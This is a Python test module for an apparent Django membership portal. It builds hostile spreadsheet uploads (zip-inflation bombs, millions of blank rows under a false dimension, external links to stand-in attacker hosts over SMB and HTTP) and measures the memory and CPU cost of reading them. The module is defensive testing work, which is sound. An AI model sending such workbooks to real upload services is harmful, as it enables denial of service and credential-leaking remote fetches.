"""Hostile workbooks, small on disk, built with zipfile, and a way to measure what reading
one costs (docs/security.md, "Uploads, bodies and interrupted work").

Every builder returns the bytes of an .xlsx whose first row is the worker roster's
template header (or the bank result's), so that a reader that does not check the zip
goes on to parse it. `measure` reads a file the way a worker does, in a fresh Python
process, and reports the peak memory added (ru_maxrss) and the CPU and wall time:

    .venv/bin/python -m tests.upload_bombs measure roster FILE.xlsx

prints {"outcome": ..., "message": ..., "rss_mb": ..., "cpu_s": ..., "wall_s": ...}.
"""

import io
import json
import os
import resource
import subprocess
import sys
import time
import zipfile
from functools import lru_cache
from pathlib import Path
from xml.sax.saxutils import escape

ROOT = Path(__file__).resolve().parents[1]
MB = 1024 * 1024
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELS_NS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BANK_HEADER = ("明细编号", "结果", "原因", "金额")


def roster_header():
    from membership.imports.columns import WORKER_COLUMNS

    return [column.header for column in WORKER_COLUMNS]


def _column(index):
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _header_row(header):
    cells = "".join(f'<c r="{_column(i)}1" t="inlineStr"><is><t>{escape(name)}</t></is></c>'
                    for i, name in enumerate(header))
    return f'<row r="1">{cells}</row>'


def _sheet(header, body=b"", *, dimension="A1:O2"):
    """Sheet XML as a list of byte chunks: the header row, then `body` (bytes or chunks)."""
    head = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<worksheet {_MAIN}><dimension ref="{dimension}"/><sheetData>'
            f'{_header_row(header)}').encode()
    tail = b"</sheetData></worksheet>"
    chunks = [body] if isinstance(body, bytes) else body
    return [head, *chunks, tail]


def _parts(sheet_chunks, *, shared_strings=None, workbook_rels_extra="", extra=()):
    """The parts of a minimal workbook: name → bytes or an iterable of byte chunks."""
    overrides = ('<Override PartName="/xl/workbook.xml" ContentType="application/'
                 'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                 '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
                 'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
    strings_rel = ""
    if shared_strings is not None:
        overrides += ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                      'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
        strings_rel = (f'<Relationship Id="rId9" Type="{_R}/sharedStrings" '
                       'Target="sharedStrings.xml"/>')
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://'
            'schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels"'
            ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'{overrides}</Types>').encode(),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships {_RELS_NS}>'
            f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="xl/workbook.xml"/>'
            '</Relationships>').encode(),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook {_MAIN} '
            f'xmlns:r="{_R}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
            '</workbook>').encode(),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships {_RELS_NS}>'
            f'<Relationship Id="rId1" Type="{_R}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'{strings_rel}{workbook_rels_extra}</Relationships>').encode(),
        "xl/worksheets/sheet1.xml": sheet_chunks,
    }
    if shared_strings is not None:
        parts["xl/sharedStrings.xml"] = shared_strings
    parts.update(extra)
    return parts


def _zip(parts):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in parts.items():
            with archive.open(name, "w", force_zip64=True) as entry:
                for chunk in [content] if isinstance(content, bytes) else content:
                    entry.write(chunk)
    return stream.getvalue()


def _repeat(unit, total):
    """`unit` repeated to about `total` bytes, as chunks of a few MB."""
    block = unit * max(1, (4 * MB) // len(unit))
    written = 0
    while written < total:
        yield block
        written += len(block)


def plain_workbook(header=None, rows=()):
    """A well-formed workbook: the header, then `rows` (lists of text)."""
    header = header or roster_header()
    body = "".join(
        f'<row r="{n}">' + "".join(
            f'<c r="{_column(i)}{n}" t="inlineStr"><is><t>{escape(str(v))}</t></is></c>'
            for i, v in enumerate(row) if v is not None) + "</row>"
        for n, row in enumerate(rows, start=2)).encode()
    return _zip(_parts(_sheet(header, body)))


@lru_cache
def shared_strings_bomb(inflated=400 * MB, header=None):
    """A workbook whose sharedStrings.xml inflates to `inflated` bytes of short strings
    (what made a 413 KB file take 1.3 GB of memory in openpyxl)."""
    header = tuple(header or roster_header())

    def strings():
        yield (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst {_MAIN}>'
               ).encode()
        yield from _repeat(b"<si><t>hedong-union-portal-padding</t></si>", inflated)
        yield b"</sst>"

    return _zip(_parts(_sheet(header), shared_strings=strings()))


@lru_cache
def blank_rows_bomb(rows=60_000_000, header=None):
    """A workbook whose <dimension> says two rows while its sheet holds `rows` blank ones
    (what made a 718 KB file run 43 s of CPU: blank rows were not counted)."""
    header = tuple(header or roster_header())
    return _zip(_parts(_sheet(header, _repeat(b"<row/>", rows * 6))))


@lru_cache
def numbered_blank_rows(rows, header=None):
    """A workbook with a lying <dimension> and `rows` blank rows each numbered and holding
    an empty styled cell: packed no tighter than an ordinary sheet, so that only the row
    limit stops it."""
    header = tuple(header or roster_header())

    def body():
        for start in range(2, rows + 2, 10_000):
            yield "".join(f'<row r="{n}"><c r="A{n}" s="0"/></row>'
                          for n in range(start, min(start + 10_000, rows + 2))).encode()

    return _zip(_parts(_sheet(header, body())))


def many_entries(entries=600, header=None):
    """A workbook with `entries` tiny extra parts."""
    extra = {f"xl/media/image{n}.png": b"\x89PNG" for n in range(entries)}
    return _zip(_parts(_sheet(header or roster_header()), extra=extra))


def external_link(header=None):
    """A workbook with an external link part (xl/externalLinks/) to another file."""
    link_rel = (f'<Relationship Id="rId5" Type="{_R}/externalLink" '
                'Target="externalLinks/externalLink1.xml"/>')
    extra = {
        "xl/externalLinks/externalLink1.xml": (
            f'<externalLink {_MAIN}><externalBook xmlns:r="{_R}" r:id="rId1"/>'
            '</externalLink>').encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": (
            f'<Relationships {_RELS_NS}><Relationship Id="rId1" Type="{_R}/externalLinkPath"'
            ' Target="file:///\\\\attacker\\share\\book.xlsx" TargetMode="External"/>'
            '</Relationships>').encode(),
    }
    return _zip(_parts(_sheet(header or roster_header()), workbook_rels_extra=link_rel,
                       extra=extra))


def external_relationship(header=None):
    """A workbook whose sheet points to an outside file through a relationship only (an
    OLE object's link), with no xl/externalLinks/ part."""
    extra = {"xl/worksheets/_rels/sheet1.xml.rels": (
        f'<Relationships {_RELS_NS}><Relationship Id="rId1" Type="{_R}/oleObject" '
        'Target="http://attacker.example/x.bin" TargetMode="External"/>'
        '</Relationships>').encode()}
    return _zip(_parts(_sheet(header or roster_header()), extra=extra))


def with_hyperlink(header=None):
    """A workbook whose sheet has an ordinary web hyperlink (allowed)."""
    extra = {"xl/worksheets/_rels/sheet1.xml.rels": (
        f'<Relationships {_RELS_NS}><Relationship Id="rId1" Type="{_R}/hyperlink" '
        'Target="https://www.example.cn/" TargetMode="External"/>'
        '</Relationships>').encode()}
    return _zip(_parts(_sheet(header or roster_header()), extra=extra))


# -- measuring ---------------------------------------------------------------------------

def measure(reader, path, *, root=ROOT, timeout=600, env=None):
    """Read `path` with `reader` ("roster" or "bank") in a fresh process whose code comes
    from `root`; the dict it printed."""
    out = subprocess.run(
        [sys.executable, "-m", "tests.upload_bombs", "measure", reader, str(path)],
        cwd=root, env={**os.environ, **(env or {}), "PYTHONPATH": str(root)},
        capture_output=True, text=True, timeout=timeout, check=True)
    return json.loads(out.stdout.strip().splitlines()[-1])


def _read(reader, path):
    if reader == "roster":
        from membership.imports.columns import WORKER_COLUMNS
        from membership.imports.reader import RosterReader

        with RosterReader(path, WORKER_COLUMNS) as rows:
            return sum(1 for _ in rows.rows())
    from django.core.files import File

    from subsidies.bank import read_result_file

    with open(path, "rb") as handle:
        return len(read_result_file(File(handle)))


def _measure_here(reader, path):
    import django

    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "hedong_union.settings.dev")
    django.setup()
    from django.core.exceptions import ValidationError

    from membership.imports.reader import ImportFileError

    before = resource.getrusage(resource.RUSAGE_SELF)
    started = time.monotonic()
    try:
        outcome, message = f"read {_read(reader, path)} rows", ""
    except ImportFileError as error:
        outcome, message = "refused", error.message
    except ValidationError as error:
        outcome, message = "refused", error.messages[0]
    after = resource.getrusage(resource.RUSAGE_SELF)
    print(json.dumps({
        "outcome": outcome, "message": message,
        "rss_mb": round((after.ru_maxrss - before.ru_maxrss) / 1024, 1),
        "cpu_s": round(after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime,
                       2),
        "wall_s": round(time.monotonic() - started, 2),
    }, ensure_ascii=False))


if __name__ == "__main__":
    if sys.argv[1:2] == ["measure"]:
        _measure_here(sys.argv[2], sys.argv[3])
    else:
        sys.exit(__doc__)
